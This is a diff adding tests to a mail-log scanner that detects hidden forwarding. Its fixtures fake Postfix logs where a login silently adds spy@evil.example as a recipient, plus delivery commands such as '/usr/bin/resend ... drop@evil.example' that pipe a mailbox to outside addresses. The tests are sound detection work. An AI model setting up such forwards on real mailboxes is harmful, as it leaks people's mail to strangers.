@@ -358,6 +358,91 @@ def memory():
           f"400,000 forged lines, in less than {most} MB", peak)
 
 
+def submitted(number, login, *to, status="sent (250 ok)"):
+    """A message with a recipient more than its login gave."""
+    queue_id = "5A1B2C3D%02X" % number
+    client = "home.isp.example[198.51.100.9]"
+    lines = [("smtpd", "connect from " + client),
+             ("smtpd", "%s: client=%s, sasl_method=LOGIN, sasl_username=%s" %
+              (queue_id, client, login)),
+             ("cleanup", "%s: message-id=<%d@house.example>" %
+              (queue_id, number)),
+             ("qmgr", "%s: from=<%s>, size=700, nrcpt=%d (queue active)" %
+              (queue_id, login, len(to))),
+             ("smtpd", "disconnect from %s ehlo=2 auth=1 mail=1 rcpt=%d data=1"
+              " quit=1 commands=7" % (client, len(to) - 1))]
+    lines += [("smtp", "%s: to=<%s>, relay=mx[203.0.113.5]:25, delay=1, "
+               "delays=0/0/0/1, dsn=2.0.0, status=%s" % (queue_id, one, status))
+              for one in to]
+    lines.append(("qmgr", queue_id + ": removed"))
+    return "".join("Jan  5 10:%02d:00 mx1 postfix/%s[30]: %s\n" %
+                   (number, program, text) for program, text in lines)
+
+
+def found(text):
+    answer = scan("--json", "-l", "house.example", "-", data=text.encode())
+    return {(one["mailbox"], one["destination"], one["sent"],
+             one["confidence"], one.get("via", ""))
+            for one in (json.loads(line)["forwarden"]
+                        for line in answer.stdout.splitlines())
+            if one["by"] == "bcc"}
+
+
+def added():
+    """Of one message it cannot be told who was added, of several it can:
+    the one that all of them have."""
+    once = submitted(1, "tom@house.example", "a@mail.example",
+                     "spy@evil.example")
+    check(found(once) == {("tom@house.example", "?", 1, 50,
+                           "one of a@mail.example spy@evil.example")},
+          "a copy of one message: it is one of two", found(once))
+    often = once + "".join(
+        submitted(n, "tom@house.example", "%d@mail.example" % n,
+                  "SPY@evil.example") for n in (2, 3, 4))
+    said = found(often)
+    check({one[:3] for one in said} ==
+          {("tom@house.example", "spy@evil.example", 4)} and
+          min(one[3] for one in said) > 50,
+          "of four messages: the one that all have", said)
+    other = often + submitted(5, "tom@house.example", "x@mail.example",
+                              "y@mail.example")
+    check(found(other) == set(), "one without it: nobody is added to all",
+          found(other))
+    both = often + submitted(6, "una@house.example", "p@mail.example",
+                             "q@mail.example")
+    check(len(found(both)) == 2, "each login for itself", found(both))
+
+
+def commands():
+    """An address in a command that a mailbox gives its mail to is told, who it
+    is sent by is not."""
+    def told(command):
+        lines = ("smtpd[20]: 4A1B2C4F01: client=out.shop.example[203.0.113.7]",
+                 "cleanup[21]: 4A1B2C4F01: message-id=<c@shop.example>",
+                 "qmgr[12]: 4A1B2C4F01: from=<ann@shop.example>, size=9, nrcpt=1 "
+                 "(queue active)",
+                 "local[22]: 4A1B2C4F01: to=<vic@house.example>, relay=local, "
+                 "delay=0, delays=0/0/0/0, dsn=2.0.0, status=sent (delivered "
+                 "to command: %s)" % command,
+                 "qmgr[12]: 4A1B2C4F01: removed")
+        text = "".join("Jan  5 11:00:00 mx1 postfix/%s\n" % line
+                       for line in lines)
+        answer = scan("--json", "-l", "house.example", "-",
+                      data=text.encode())
+        rows = [json.loads(line)["forwarden"]
+                for line in answer.stdout.splitlines()]
+        return {one["destination"] for one in rows
+                if one.get("destination") and one.get("by") == "command"}
+    for command, want in (
+            ("/usr/bin/resend -f vic@house.example drop@evil.example",
+             {"drop@evil.example"}),
+            ("/usr/sbin/sendmail -i '<a@evil.example>,' \"b@evil.example\"",
+             {"a@evil.example", "b@evil.example"}),
+            ("/usr/bin/store --to=x@evil.example /srv/a@b.example/mail", set()),
+            ("/usr/bin/vacation vic", set())):
+        check(told(command) == want, "a command: " + command, told(command))
+
+
 def documents():
     """What docs/scan.md shows is what one sees."""
     with open(os.path.join(TOP, "docs/scan.md")) as file:
@@ -381,8 +466,8 @@ for each in sorted(os.listdir(HERE)):
     if each.endswith(".routes"):
         same(scan("--json", each.replace(".routes", ".maillog")), each,
              each.replace(".routes", ".maillog"))
-for part in (forms, answers, egress, times, places, broken, pipes, memory,
-             documents):
+for part in (forms, answers, added, commands, egress, times, places, broken,
+             pipes, memory, documents):
     part()
 print("1..%d" % count)
 sys.exit(failed > 0)
